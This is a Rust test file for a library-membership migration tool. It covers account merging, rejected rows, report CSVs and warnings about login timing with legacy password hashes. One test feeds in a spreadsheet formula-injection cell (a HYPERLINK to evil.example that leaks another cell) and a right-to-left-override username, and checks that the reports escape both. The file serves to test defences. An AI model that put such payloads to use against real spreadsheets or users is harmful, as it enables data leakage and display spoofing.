    let row = r#""library_code": "DRE01", "branch": "5280", "username": "jansen",
        "password_hash": "", "email": "jan@example.nl", "name": "Jan de Vries", "birth_date": "1980-02-01",
        "subscription_type": "VOLWASSEN", "valid_until": "2027-05-31", "last_login": "2024-06-01""#
        .replace('\n', "");
    let mut jsonl = tempfile::Builder::new().suffix(".jsonl").tempfile().unwrap();
    writeln!(jsonl, r#"{{"card_number": "20000000000001", {row}}}"#).unwrap();
    writeln!(
        jsonl,
        r#"{{"card_number": "20000000000002", "passwd_hash": "$1$x", {row}}}"#
    )
    .unwrap();
    writeln!(
        jsonl,
        r#"{{"card_number": "20000000000003", "card_number": "20000000000004", {row}}}"#
    )
    .unwrap();
    jsonl.flush().unwrap();
    let files = vec![jsonl.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();

    let rejected = rejected_lines(reports.path());
    assert_eq!(rejected.len(), 2, "{rejected:?}");
    assert_eq!(rejected[0][0], "2");
    assert!(
        rejected[0][1].contains("unknown field `passwd_hash`"),
        "{rejected:?}"
    );
    assert_eq!(rejected[1][0], "3");
    assert!(
        rejected[1][1].contains("duplicate field `card_number`"),
        "{rejected:?}"
    );
    assert_eq!((summary.rows, summary.accounts), (3, 1));
}

#[tokio::test]
async fn a_row_fixed_after_an_import_leaves_the_names_that_import_gave_where_they_are() {
    let app = spawn_app().await;
    libraries(&app).await;
    // Piet Twee logged in more recently and would win "pietje", but his row
    // is rejected the first time (an unknown subscription type).
    let rows = |subscription: &str| {
        format!(
            "DRE01,20000000000001,5280,pietje,,een@example.nl,Piet Een,1980-01-01,VOLWASSEN,2027-01-01,2024-01-01\n\
             DRE01,20000000000002,5280,pietje,,twee@example.nl,Piet Twee,1981-01-01,{subscription},2027-01-01,2024-06-01\n"
        )
    };
    let first = export_of(&rows("XXX"));
    import(&app.store, &[first.path().to_owned()]).await;

    let fixed = export_of(&rows("VOLWASSEN"));
    let files = vec![fixed.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert_eq!(
        read_csv(reports.path().join("renamed.csv")),
        vec![vec![
            "DRE01",
            "20000000000002",
            "pietje",
            "20000000000002",
            "taken"
        ]],
        "the name stays with the account that has it"
    );
    assert_eq!(
        import(&app.store, &files).await,
        migration::Imported {
            accounts: 1,
            memberships: 1,
            left_out: 0,
        }
    );
    assert_eq!(
        usernames(&app.store).await,
        BTreeMap::from([
            ("20000000000001".to_owned(), "pietje".to_owned()),
            ("20000000000002".to_owned(), "20000000000002".to_owned()),
        ])
    );
}

#[tokio::test]
async fn a_row_fixed_after_an_import_joins_the_account_its_person_has() {
    let app = spawn_app().await;
    libraries(&app).await;
    // Anna at two libraries; her more recent row is rejected the first time.
    let rows = |subscription: &str| {
        format!(
            "DRE01,20000000000001,5280,anna,,anna@example.nl,Anna Bakker,1980-01-01,VOLWASSEN,2027-01-01,2024-01-01\n\
             GRO01,30000000000001,,anna_g,,anna@example.nl,Anna Bakker,1980-01-01,{subscription},2027-01-01,2024-06-01\n"
        )
    };
    let first = export_of(&rows("XXX"));
    import(&app.store, &[first.path().to_owned()]).await;

    let fixed = export_of(&rows("VOLWASSEN"));
    assert_eq!(
        import(&app.store, &[fixed.path().to_owned()]).await,
        migration::Imported {
            accounts: 0,
            memberships: 1,
            left_out: 0,
        },
        "no second account for Anna"
    );
    assert_eq!(
        usernames(&app.store).await,
        BTreeMap::from([
            ("20000000000001".to_owned(), "anna".to_owned()),
            ("30000000000001".to_owned(), "anna".to_owned()),
        ])
    );
}

/// What a plan over an earlier import reports.
struct PlanAgain {
    summary: migration::Summary,
    rejected: Vec<[String; 2]>,
    merged: Vec<Vec<String>>,
    changed: Vec<Vec<String>>,
}

/// Imports `first`, then plans `then` over it, and imports `then` too: that
/// import must write nothing and leave every card where it was.
async fn import_then_plan_again(first: &str, then: &str) -> PlanAgain {
    let app = spawn_app().await;
    libraries(&app).await;
    let first = export_of(first);
    import(&app.store, &[first.path().to_owned()]).await;
    let before = usernames(&app.store).await;

    let then = export_of(then);
    let files = vec![then.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert_eq!(
        import(&app.store, &files).await,
        migration::Imported::default(),
        "no account made to be taken out again"
    );
    assert_eq!(usernames(&app.store).await, before);
    PlanAgain {
        summary,
        rejected: rejected_lines(reports.path()),
        merged: read_csv(reports.path().join("merged.csv")),
        changed: read_csv(reports.path().join("changed_since_import.csv")),
    }
}

/// A member's address, name or birth date changed in the exports after an
/// import: the card stays as imported (the go-live mail goes to the address
/// imported), and the report lists the rows that differ, so that they can be
/// corrected at the desk. Another case or spacing is no change.
#[tokio::test]
async fn rows_changed_in_the_exports_since_an_import_are_reported() {
    let first = "DRE01,20000000000001,5280,jansen,,jan@example.nl,Jan de Vries,1980-02-01,VOLWASSEN,2027-05-31,2024-06-01\n\
                 DRE01,20000000000002,5280,pietj,,piet@example.nl,Piet Jansen,1975-07-15,VOLWASSEN,2027-05-31,2024-05-20\n\
                 DRE01,20000000000003,5280,kees_b,,kees@example.nl,Kees Bakker,1990-11-30,VOLWASSEN,2027-05-31,2024-05-20\n";
    let then = first
        .replace("jan@example.nl", "jan.nieuw@example.nl")
        .replace("1975-07-15", "1975-07-16")
        .replace("Kees Bakker", "kees  BAKKER")
        .replace("kees@example.nl", "Kees@Example.nl");
    let again = import_then_plan_again(first, &then).await;
    assert_eq!(
        (again.summary.changed_since_import, again.summary.rejected),
        (2, 0)
    );
    assert_eq!(
        again.changed,
        vec![
            vec!["DRE01", "20000000000001", "e-mail address"],
            vec!["DRE01", "20000000000002", "name or birth date"],
        ]
    );
    assert!(
        again
            .summary
            .to_string()
            .contains("rows changed since imported:  2"),
        "{}",
        again.summary
    );
}

/// Anna at two libraries; her row in Groningen is the more recent one.
fn anna(drenthe_email: &str) -> String {
    format!(
        "DRE01,20000000000001,5280,anna,,{drenthe_email},Anna Bakker,1980-01-01,VOLWASSEN,2027-01-01,2024-01-01\n\
         GRO01,30000000000001,,anna_g,,anna@example.nl,Anna Bakker,1980-01-01,VOLWASSEN,2027-01-01,2024-06-01\n"
    )
}

#[tokio::test]
async fn a_card_whose_person_changed_in_the_exports_since_an_import_stays_where_it_is_and_is_reported() {
    // One account, named by the Groningen row; then Drenthe's export gives
    // another e-mail address, so the rows are no longer one person.
    let again = import_then_plan_again(&anna("anna@example.nl"), &anna("anna.bakker@example.nl")).await;
    let summary = &again.summary;
    assert_eq!((summary.rows, summary.rejected, summary.accounts), (2, 1, 1));
    assert_eq!(
        again.rejected,
        vec![[
            "2".to_owned(),
            "card number 20000000000001 of library DRE01 is in the account anna_g since an earlier import, \
             and the rows as they are now would put it in another (an e-mail address, name or birth date \
             has changed, or a row of the same person is missing): an import moves no card, so it stays \
             there and this row is not imported"
                .to_owned()
        ]]
    );
    assert!(
        again.changed.is_empty(),
        "rejected, not listed twice: {:?}",
        again.changed
    );
}

#[tokio::test]
async fn a_card_whose_account_was_named_by_a_row_gone_from_the_exports_stays_in_that_account() {
    let both = anna("anna@example.nl");
    let (_, groningen) = both.split_once('\n').unwrap();
    let again = import_then_plan_again(&both, groningen).await;
    let summary = &again.summary;
    assert_eq!((summary.rows, summary.rejected, summary.accounts), (1, 0, 1));
    assert!(again.rejected.is_empty(), "{:?}", again.rejected);

    // The other way round: the row that named the account is gone.
    let drenthe = both.lines().next().unwrap();
    let again = import_then_plan_again(&both, &format!("{drenthe}\n")).await;
    let summary = &again.summary;
    assert_eq!((summary.rows, summary.rejected, summary.accounts), (1, 1, 0));
    assert!(
        again.rejected[0][1]
            .starts_with("card number 20000000000001 of library DRE01 is in the account anna_g since"),
        "{:?}",
        again.rejected
    );
}

/// One name in two Unicode forms, as when one system stores "ë" as "e"
/// and a combining diaeresis: the same name, so one person.
#[tokio::test]
async fn a_name_in_another_unicode_form_is_the_same_name() {
    let app = spawn_app().await;
    libraries(&app).await;
    let composed = "Zo\u{eb} \u{c7}elik";
    let decomposed = "Zoe\u{308} C\u{327}elik";
    let export = export_of(&format!(
        "DRE01,20000000000001,5280,zoe,,zoe@example.nl,{composed},1970-01-01,VOLWASSEN,2027-05-31,2024-01-01\n\
         GRO01,30000000000001,,zoe_c,,zoe@example.nl,{decomposed},1970-01-01,VOLWASSEN,2027-05-31,2024-06-01\n"
    ));
    let files = vec![export.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert_eq!((summary.accounts, summary.merged_accounts), (1, 1));
    assert_eq!(
        read_csv(reports.path().join("merged.csv")),
        vec![
            vec!["zoe_c", "DRE01", "20000000000001", "zoe"],
            vec!["zoe_c", "GRO01", "30000000000001", "zoe_c"],
        ]
    );
}

#[tokio::test]
async fn two_accounts_an_import_made_for_one_person_are_not_reported_as_merged() {
    // A typo in Drenthe's address made two accounts of Anna; it is fixed in
    // the exports after the import.
    let again = import_then_plan_again(&anna("anna@exmaple.nl"), &anna("anna@example.nl")).await;
    assert_eq!(
        (again.summary.accounts, again.summary.merged_accounts),
        (1, 0),
        "the import merges no accounts"
    );
    assert_eq!(again.merged, Vec::<Vec<String>>::new());
    assert_eq!(again.rejected.len(), 1, "{:?}", again.rejected);
    assert_eq!(
        again.rejected[0][0], "2",
        "the row of the account that lost the contest"
    );
    assert!(
        again.rejected[0][1].contains("is in the account anna since an earlier import"),
        "{:?}",
        again.rejected
    );
}

/// Anna with three cards, two in Drenthe; her Groningen row is the most
/// recent and names her account.
fn anna_with_three_cards(groningen_email: &str, second_drenthe_email: &str) -> String {
    format!(
        "DRE01,20000000000001,5280,anna,,anna@example.nl,Anna Bakker,1980-01-01,VOLWASSEN,2027-01-01,2024-01-01\n\
         GRO01,30000000000001,,anna_g,,{groningen_email},Anna Bakker,1980-01-01,VOLWASSEN,2027-01-01,2024-06-01\n\
         DRE01,20000000000002,,anna_b,,{second_drenthe_email},Anna Bakker,1980-01-01,VOLWASSEN,2027-01-01,2024-03-01\n"
    )
}

#[tokio::test]
async fn of_three_cards_in_one_account_those_whose_person_changed_stay_there_and_are_reported() {
    let same = anna_with_three_cards("anna@example.nl", "anna@example.nl");

    // The second Drenthe card's row now gives another address.
    let again =
        import_then_plan_again(&same, &anna_with_three_cards("anna@example.nl", "a.b@example.nl")).await;
    let summary = &again.summary;
    assert_eq!((summary.rows, summary.rejected, summary.accounts), (3, 1, 1));
    assert_eq!(again.rejected[0][0], "4", "{:?}", again.rejected);

    // The row that names the account now gives another address: the other
    // two would form an account of their own, so both stay where they are.
    let again =
        import_then_plan_again(&same, &anna_with_three_cards("a.b@example.nl", "anna@example.nl")).await;
    let summary = &again.summary;
    assert_eq!((summary.rows, summary.rejected, summary.accounts), (3, 2, 1));
    let lines: Vec<&str> = again.rejected.iter().map(|[line, _]| line.as_str()).collect();
    assert_eq!(lines, ["2", "4"]);
    assert!(
        again
            .rejected
            .iter()
            .all(|[_, reason]| reason.contains("is in the account anna_g since")),
        "{:?}",
        again.rejected
    );
}

#[tokio::test]
async fn a_cell_a_spreadsheet_would_run_as_a_formula_or_show_as_another_is_reported_as_text() {
    let app = spawn_app().await;
    libraries(&app).await;
    let file = export_of(
        "DRE01,20000000000001,5280,\"=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"klik\"\")\",,een@example.nl,Een Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
         DRE01,20000000000002,5280,-jan_,,,Twee Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n\
         DRE01,20000000000003,5280,nimda\u{202e}\u{200b},,drie@example.nl,Drie Lid,1982-04-03,VOLWASSEN,2027-05-31,2024-06-01\n",
    );
    let files = vec![file.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    migration::report(&plan, &catalogue, &files, reports.path()).unwrap();

    assert_eq!(
        read_csv(reports.path().join("renamed.csv")),
        vec![
            vec![
                "DRE01",
                "20000000000001",
                "'=HYPERLINK(\"https://evil.example/?\"&B2,\"klik\")",
                "20000000000001",
                "not_allowed"
            ],
            vec![
                "DRE01",
                "20000000000003",
                // Shown as written, not reversed and joined in the spreadsheet.
                "nimda\\u{202e}\\u{200b}",
                "20000000000003",
                "not_allowed"
            ]
        ]
    );
    assert_eq!(
        read_csv(reports.path().join("no_email.csv")),
        vec![vec!["DRE01", "20000000000002", "'-jan_", "missing"]],
        "a username may start with - or @; the report shows it as text"
    );
}

#[tokio::test]
async fn a_card_number_given_twice_at_a_library_is_reported_and_the_first_row_imported() {
    let app = spawn_app().await;
    libraries(&app).await;
    let file = export_of(
        "DRE01,20000000000001,5280,eerste,,eerste@example.nl,Eerste Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
         DRE01,20000000000001,5280,tweede,,tweede@example.nl,Tweede Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n\
         GRO01,20000000000001,,derde,,derde@example.nl,Derde Lid,1982-04-03,VOLWASSEN,2027-05-31,\n",
    );
    let files = vec![file.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert_eq!((summary.rows, summary.rejected, summary.accounts), (3, 1, 2));
    let rejected = read_csv(reports.path().join("rejected.csv"));
    assert_eq!(rejected.len(), 1, "{rejected:?}");
    assert_eq!(rejected[0][1], "3");
    assert_eq!(
        rejected[0][2],
        "card number 20000000000001 of library DRE01 is on an earlier row too; this row is not imported"
    );

    let imported = import(&app.store, &files).await;
    assert_eq!(
        imported,
        migration::Imported {
            accounts: 2,
            memberships: 2,
            left_out: 0,
        },
        "every account the plan counted, none left out in silence"
    );
    let drenthe = drenthe(&app.store).await;
    let memberships = app.store.memberships().of_library(&drenthe).await.unwrap();
    assert_eq!(memberships.len(), 1);
    let account = app
        .store
        .accounts()
        .by_id(memberships[0].account.as_ref().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(account.username.as_str(), "eerste");
}

/// A card given out twice whose first row is rejected for another reason
/// goes to no one: the later row would take the card, and the first row,
/// fixed, could then no longer have it.
#[tokio::test]
async fn a_card_whose_first_row_is_rejected_waits_for_that_row() {
    let app = spawn_app().await;
    libraries(&app).await;
    let file = export_of(
        "DRE01,20000000000001,9999,eerste,,eerste@example.nl,Eerste Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
         DRE01,20000000000001,5280,tweede,,tweede@example.nl,Tweede Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n\
         DRE01,20000000000002,5280,derde,,derde@example.nl,Derde Lid,1982-04-03,VOLWASSEN,2027-05-31,\n\
         DRE01,20000000000002,5280,vierde,,vierde@example.nl,Vierde Lid,1983-05-04,ONBEKEND,2027-05-31,\n\
         DRE01,20000000000002,5280,vijfde,,vijfde@example.nl,Vijfde Lid,1984-06-05,VOLWASSEN,2027-05-31,\n",
    );
    let files = vec![file.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert_eq!((summary.rows, summary.rejected, summary.accounts), (5, 4, 1));
    let rejected: Vec<(String, String)> = read_csv(reports.path().join("rejected.csv"))
        .into_iter()
        .map(|row| (row[1].clone(), row[2].clone()))
        .collect();
    let name = file.path().display();
    assert_eq!(
        rejected,
        [
            ("2", "library DRE01 has no branch \"9999\"".to_owned()),
            (
                "3",
                format!(
                    "card number 20000000000001 of library DRE01 is on {name} line 2 too, which is \
                     rejected: the first row of a card decides, so this row is not imported until \
                     that one is fixed or removed"
                )
            ),
            ("5", "library DRE01 has no subscription type \"ONBEKEND\"".to_owned()),
            (
                "6",
                "card number 20000000000002 of library DRE01 is on an earlier row too; this row is not imported"
                    .to_owned()
            ),
        ]
        .map(|(line, reason)| (line.to_owned(), reason)),
        "a card whose first row was imported keeps its usual message"
    );
    import(&app.store, &files).await;
    let drenthe = drenthe(&app.store).await;
    let cards: Vec<String> = app
        .store
        .memberships()
        .of_library(&drenthe)
        .await
        .unwrap()
        .iter()
        .map(|m| m.card_number.to_string())
        .collect();
    assert_eq!(
        cards,
        ["20000000000002"],
        "nothing took the card of the rejected row"
    );
}

#[tokio::test]
async fn a_card_registered_at_the_desk_before_the_import_is_reported_and_left_as_it_is() {
    let app = spawn_app().await;
    libraries(&app).await;
    // One card without an account yet, one in an account the desk made.
    let without_account = register_at_the_desk(&app, "20000000000001", None).await;
    let desk_account = crate::interop::member(&app.store, "desk_made").await;
    let with_account = register_at_the_desk(&app, "20000000000002", Some(desk_account.id)).await;
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &[sample()]).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &[sample()], reports.path()).unwrap();
    assert_eq!((summary.rows, summary.rejected, summary.accounts), (10, 4, 5));
    let rejected = read_csv(reports.path().join("rejected.csv"));
    for (row, card) in [(0, "20000000000001"), (1, "20000000000002")] {
        assert_eq!(rejected[row][1], (row + 2).to_string(), "{rejected:?}");
        assert_eq!(
            rejected[row][2],
            format!(
                "card number {card} of library DRE01 is registered already, not by the migration: \
                 that registration stays and this row is not imported"
            )
        );
    }

    let imported = import(&app.store, &[sample()]).await;
    assert_eq!(
        imported,
        migration::Imported {
            accounts: 5,
            memberships: 6,
            left_out: 0,
        }
    );
    for (registered, account) in [(without_account, None), (with_account, Some(desk_account.id))] {
        assert_eq!(
            account_of_drenthe_card(&app.store, &registered.card_number).await,
            account,
            "the desk's registration is untouched"
        );
    }
}

#[tokio::test]
async fn a_card_the_desk_registers_while_the_import_runs_leaves_no_account_without_a_membership() {
    let app = spawn_app().await;
    libraries(&app).await;
    let files = vec![sample()];
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    // After the plan was made: jansen's only card, registered anew at the desk.
    let at_the_desk = register_at_the_desk(&app, "20000000000001", None).await;

    let imported = migration::import(
        &app.store,
        files.clone(),
        std::sync::Arc::new(plan),
        std::sync::Arc::new(catalogue),
        |_| {},
    )
    .await
    .unwrap();

    assert_eq!(
        imported,
        migration::Imported {
            accounts: 6,
            memberships: 7,
            left_out: 1,
        }
    );
    let jansen = Username::parse("jansen").unwrap();
    assert!(
        app.store.accounts().by_username(&jansen).await.unwrap().is_none(),
        "no account without a membership, to be mailed at go-live"
    );
    assert_eq!(
        account_of_drenthe_card(&app.store, &at_the_desk.card_number).await,
        None,
        "the desk's registration is untouched"
    );
    // The next plan names the row, and the import has nothing left to do.
    let reports = tempfile::tempdir().unwrap();
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert!(read_csv(reports.path().join("rejected.csv"))[0][2].contains("is registered already"));
    assert_eq!(import(&app.store, &files).await, migration::Imported::default());
}

/// The line and reason of each row in `rejected.csv`.
fn rejected_lines(reports: &std::path::Path) -> Vec<[String; 2]> {
    read_csv(reports.join("rejected.csv"))
        .into_iter()
        .map(|row| [row[1].clone(), row[2].clone()])
        .collect()
}

async fn register_at_the_desk(
    app: &TestApp,
    card: &str,
    account: Option<si_domain::AccountId>,
) -> si_store::memberships::Membership {
    let (library, branch, subscription) =
        crate::interop::library(&app.store, "DRE01", "Biblionet Drenthe").await;
    app.store
        .memberships()
        .create(si_store::memberships::NewMembership {
            library: &library,
            branch: &branch,
            subscription: &subscription,
            card_number: si_domain::CardNumber::parse(card).unwrap(),
            member_name: si_domain::DisplayName::parse("Jan de Vries").unwrap(),
            birth_date: time::Date::from_calendar_date(1980, time::Month::February, 1).unwrap(),
            email: None,
            valid_until: time::Date::from_calendar_date(2027, time::Month::May, 31).unwrap(),
            account,
        })
        .await
        .unwrap()
}

/// The desk registers a card, and makes its account with the card number
/// as username, after the plan gave that username to the card's legacy
/// account: the import stops, saying what happened, and run again it
/// leaves the card out and lists it.
#[tokio::test]
async fn a_username_the_desk_took_while_the_import_ran_stops_it_with_a_way_on() {
    let app = spawn_app().await;
    libraries(&app).await;
    let mut export = tempfile::NamedTempFile::new().unwrap();
    writeln!(
        export,
        "library_code,card_number,branch,username,password_hash,email,name,birth_date,subscription_type,valid_until,last_login\n\
         DRE01,20000000000077,5280,,,anna@example.nl,Anna de Boer,1990-04-12,VOLWASSEN,2025-05-31,"
    )
    .unwrap();
    let files = vec![export.path().to_owned()];
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();

    let token = desk_token(&app, "DRE01", ALL_DESK_SCOPES).await;
    let registered = call(
        &app,
        &token,
        "POST",
        "/api/v1/memberships",
        Some(&adult("20000000000077", "anna@example.nl")),
    )
    .await;
    assert_eq!(registered.status, 201, "{:?}", registered.body);
    assert_eq!(registered.body["login_account"]["username"], "20000000000077");

    let stopped = migration::import(
        &app.store,
        files.clone(),
        std::sync::Arc::new(plan),
        std::sync::Arc::new(catalogue),
        |_| {},
    )
    .await
    .unwrap_err();
    assert!(
        matches!(stopped, migration::MigrationError::UsernameTakenMeanwhile),
        "{stopped}"
    );
    assert!(
        stopped
            .to_string()
            .contains("run the same `migrate import` again"),
        "{stopped}"
    );

    let again = import(&app.store, &files).await;
    assert_eq!((again.accounts, again.memberships), (0, 0));
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let reports = tempfile::tempdir().unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert_eq!(summary.rejected, 1, "the card registered at the desk");
}

/// PBKDF2 hashes of one old system that raised its rounds year by year.
const PBKDF2_OVER_THE_YEARS: [&str; 12] = [
    "$pbkdf2-sha256$1000$AQEBAQEBAQEBAQEBAQEBAQ$EGebI./sAawx7BZ2sOVHZpyfwqU4v13ADkATPGNYxjI",
    "$pbkdf2-sha256$2000$AgICAgICAgICAgICAgICAg$HF96q3eMP1UjScvHY9CCWM6IgQhbdGI7xeVaX3l4jNQ",
    "$pbkdf2-sha256$3000$AwMDAwMDAwMDAwMDAwMDAw$jFRpbsMZCEXFGM6hXuH7POR9fTL3icW.aIWrgf2HxQw",
    "$pbkdf2-sha256$4000$BAQEBAQEBAQEBAQEBAQEBA$klf2HXMPLDsl2R35isnN8PuzHZqpqrlDz4ynPhTGkbA",
    "$pbkdf2-sha256$5000$BQUFBQUFBQUFBQUFBQUFBQ$o36dbY8dycKwIe5ke2yCTxPZ.FK1WxMc.BWQjgvRswQ",
    "$pbkdf2-sha256$6000$BgYGBgYGBgYGBgYGBgYGBg$.Tn4XjqCcAb1iAd0SeXnQvKTm4PwY49U5eDFKQeyy1c",
    "$pbkdf2-sha256$7000$BwcHBwcHBwcHBwcHBwcHBw$E6Z9Rgw3q5KsQI0iQYtgY6Lcs3RI0xvcu088P7vVi1g",
    "$pbkdf2-sha256$8000$CAgICAgICAgICAgICAgICA$AgbZ73zTIbJea70U/xwMEjtqB5KXfPIabRw0132NXqw",
    "$pbkdf2-sha256$9000$CQkJCQkJCQkJCQkJCQkJCQ$IP7EytYnFPaxMH0W9AD9L6xjsErJt1qwxKStVY4HDZs",
    "$pbkdf2-sha256$10000$CgoKCgoKCgoKCgoKCgoKCg$40b3pt3qTM/tj60ZuQIlRkohLC07FxdVzlZvI5l5WXY",
    "$pbkdf2-sha256$11000$CwsLCwsLCwsLCwsLCwsLCw$f4cxDMz1bOO3WML5On3NwSG7rtbFK9J8gOkqlCLA2X8",
    "$pbkdf2-sha256$12000$DAwMDAwMDAwMDAwMDAwMDA$yJTR8VkdlsvkQdlcYXDb9WS.d17vPviktuLeQwGDCuI",
];

/// An old hash that takes longer to refuse than every failed login waits
/// tells an attacker which usernames exist: the plan times a failed login
/// on the exports' hashes, as the nodes check them, and says what to set.
/// The settings of one format make at most two lines: those that tell apart
/// and those that do not. Hashes weaker than OWASP's minimum are counted
/// and warned of, whatever the wait.
#[tokio::test]
async fn the_plan_warns_of_old_hashes_that_tell_a_failed_login_apart() {
    let app = spawn_app().await;
    libraries(&app).await;
    let row = |card: u64, hash: &str| {
        format!(
            "DRE01,{card},5280,lid{card},\"{hash}\",lid{card}@example.nl,Lid {card},1990-01-01,VOLWASSEN,2027-05-31,\n"
        )
    };
    let mut rows = row(
        20000000000101,
        "$2b$12$ylJDJHLr7OP1Ar4GFYm6sOkBXt4Upd2k0vgjuoBq/SV8BCTdenoQ2",
    );
    rows += &row(
        20000000000102,
        "$2b$04$cVWp4XaNU8a4v1uMRum2SO026BWLIoQMD/TXg5uZV.0P.uO8m3YEm",
    );
    rows += &row(20000000000103, "{SSHA}jdALDtX0+MVMkRsX0ilHz0O6Uos95D4s");
    for (n, hash) in PBKDF2_OVER_THE_YEARS.iter().enumerate() {
        rows += &row(20000000000200 + n as u64, hash);
    }
    // argon2id at the nodes' default settings, and far cheaper ones.
    for (card, memory_kib, iterations) in [(20000000000301, 19456, 2), (20000000000302, 8, 1)] {
        let params = si_credentials::Argon2Params::new(memory_kib, iterations, 1).unwrap();
        rows += &row(card, &si_credentials::hash_password("oud", &params).unwrap());
    }
    let file = export_of(&rows);
    // The nodes' argon2id settings: those of these tests, or the default.
    let plan_with = |wait_ms: &str, (memory_kib, iterations): (&str, &str)| {
        let output = crate::support::run(
            crate::support::binary(app.data_dir.path())
                .env("SI_DATABASE_URL", app.database_url())
                .env("SI_HASHING__MEMORY_KIB", memory_kib)
                .env("SI_HASHING__ITERATIONS", iterations)
                .env("SI_HASHING__FAILED_LOGIN_MS", wait_ms)
                .args(["migrate", "plan", "--report"])
                .arg(app.data_dir.path().join("report"))
                .arg(file.path()),
        );
        assert!(output.status.success(), "{}", crate::support::stderr(&output));
        crate::support::stdout(&output)
    };
    let plan = |wait_ms: &str| plan_with(wait_ms, ("1024", "1"));
    let line_of = |said: &str, kind: &str| {
        let line = said.lines().find(|line| line.trim_start().starts_with(kind));
        line.unwrap_or_else(|| panic!("no line for {kind}: {said}"))
            .to_owned()
    };
    let seconds = |line: &str| -> f64 {
        let figure = line
            .split_whitespace()
            .find(|word| word.contains('.') && !word.contains('('));
        figure.unwrap().parse().unwrap()
    };

    // bcrypt at cost 12 takes a quarter of a second, twice (the password in
    // both Unicode forms); PBKDF2 at 12,000 rounds and the argon2id work of
    // these tests some milliseconds, an {SSHA} digest microseconds.
    let said = plan("300");
    let bcrypt = line_of(&said, "bcrypt (cost 12)");
    assert!(bcrypt.ends_with("tells the username apart"), "{said}");
    assert_eq!(bcrypt.split_whitespace().nth(3), Some("1"), "{bcrypt}");
    assert!(!line_of(&said, "{SSHA}").contains("apart"), "{said}");
    assert!(!line_of(&said, "bcrypt (cost 4)").contains("apart"), "{said}");
    let pbkdf2 = line_of(&said, "pbkdf2-sha256 (1000 rounds to 12000 rounds)");
    assert_eq!(pbkdf2.split_whitespace().nth(6), Some("12"), "{pbkdf2}");
    assert!(!pbkdf2.contains("apart"), "{said}");
    assert_eq!(said.matches("pbkdf2").count(), 1, "{said}");
    assert!(
        said.contains("Every failed login waits 0.30 s (hashing.failed_login_ms)."),
        "{said}"
    );
    let warning = line_of(&said, "Warning: a failed login");
    assert!(
        warning.starts_with(
            "Warning: a failed login on an account with a hash marked (1 row) does not take the same \
             time as one on an unknown username, so its time tells those usernames apart. Set hashing.failed_login_ms to "
        ),
        "{warning}"
    );
    let advised: f64 = warning
        .split("Set hashing.failed_login_ms to ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|ms| ms.parse().ok())
        .unwrap();
    assert!(
        advised / 1000.0 >= 1.5 * seconds(&bcrypt) - 0.005,
        "{advised} for {bcrypt}"
    );

    // No wait, and the default argon2id settings (two checks, tens of
    // milliseconds): a hash far cheaper answers sooner than an unknown
    // username, one made with those settings as soon.
    let said = plan_with("0", ("19456", "2"));
    assert!(
        said.contains("Failed logins do not wait (hashing.failed_login_ms is 0)."),
        "{said}"
    );
    let cheap = line_of(&said, "argon2id (m=8, t=1, p=1)");
    assert!(cheap.ends_with("tells the username apart"), "{said}");
    assert!(
        !line_of(&said, "argon2id (m=19456, t=2, p=1)").contains("apart"),
        "{said}"
    );

    // A wait long enough for every kind: nothing marked, no warning of it.
    let said = plan("10000");
    assert!(
        !said.contains("apart") && !said.contains("Warning: a failed login"),
        "{said}"
    );
    // Of the 17 hashes, all but bcrypt at cost 12 and argon2id at the
    // default settings are weaker than OWASP asks.
    let weak = line_of(&said, "Warning: 15 rows hold a hash weaker than OWASP's minimum");
    assert!(weak.contains("\"Wachtwoord vergeten\""), "{weak}");
    let bcrypt = line_of(&said, "bcrypt (cost 4 to cost 12)");
    assert_eq!(bcrypt.split_whitespace().nth(6), Some("2"), "{said}");
}

/// A report that cannot be written names where it was to go.
#[tokio::test]
async fn a_report_that_cannot_be_written_names_its_place() {
    let app = spawn_app().await;
    libraries(&app).await;
    let (plan, catalogue) = migration::plan(&app.store, &[sample()]).await.unwrap();
    let not_a_folder = tempfile::NamedTempFile::new().unwrap();
    let place = not_a_folder.path().join("report");
    let refused = migration::report(&plan, &catalogue, &[sample()], &place).unwrap_err();
    assert_eq!(
        refused.to_string(),
        format!(
            "cannot write the report {}: Not a directory (os error 20)",
            place.display()
        )
    );
}
